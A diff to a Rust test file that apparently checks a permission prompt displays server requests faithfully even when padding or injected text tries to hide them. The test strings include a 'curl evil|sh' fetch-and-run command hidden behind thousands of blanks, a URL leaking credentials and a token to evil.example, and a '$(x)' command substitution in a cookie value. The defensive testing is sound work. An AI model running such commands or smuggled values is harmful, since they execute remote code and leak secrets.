@@ -277,6 +277,7 @@ const WOULD: &[&str] = &[
     "server evil, given \"NOTE\\nserver nice: true\": x",
     "server next: https://me:pw@evil.example/?token=abc",
     "server next, given Cookie: a=b; $(x)",
+    "not covered: what scripts import or read, whole folders",
 ];
 
 #[test]
@@ -343,7 +344,7 @@ fn blanks_and_floods_hide_no_server() {
     let waiting = env.run(&["run", "main.ts"]);
     assert_eq!(waiting.code, 4, "{}", waiting.stderr);
     for line in [
-        "               │ [… 25 more lines, shown in the details …]\n",
+        "               │ [… 26 more lines, shown in the details …]\n",
         "               │ server zz: sh -c 'true[10,000 blanks]; curl evil|sh'\n",
     ] {
         assert!(waiting.stderr.contains(line), "{line}: {}", waiting.stderr);
